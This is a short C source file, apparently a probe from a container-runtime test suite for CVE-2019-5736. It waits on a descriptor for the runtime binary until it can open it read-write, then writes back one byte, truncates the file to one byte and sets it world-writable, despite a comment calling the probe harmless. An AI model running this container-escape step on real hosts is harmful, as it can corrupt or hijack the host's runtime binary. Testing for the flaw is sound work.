// CVE-2019-5736: the runtime's own program, held through /proc/self/exe, written to once nobody executes it.
#include "hostile.h"

// overwrite FD: FD is what the fake loader (loader.c) has held. Writes back the byte that is there: harmless if it works.
int overwrite(int argc, char **argv) {
  char path[64], target[4096];
  snprintf(path, sizeof path, "/proc/self/fd/%s", argc > 1 ? argv[1] : "?");
  ssize_t length = readlink(path, target, sizeof target - 1);
  target[length < 0 ? 0 : length] = 0;
  printf("holds %s\n", target);
  double deadline = now() + 5;
  int fd;
  do fd = open(path, O_RDWR);
  while (fd < 0 && errno == ETXTBSY && now() < deadline);
  report("open", fd);
  if (fd < 0) return 0;
  char byte;
  pread(fd, &byte, 1, 0);
  report("write", pwrite(fd, &byte, 1, 0));
  report("truncate", ftruncate(fd, 1));
  report("chmod", fchmod(fd, 0777));
  return 0;
}
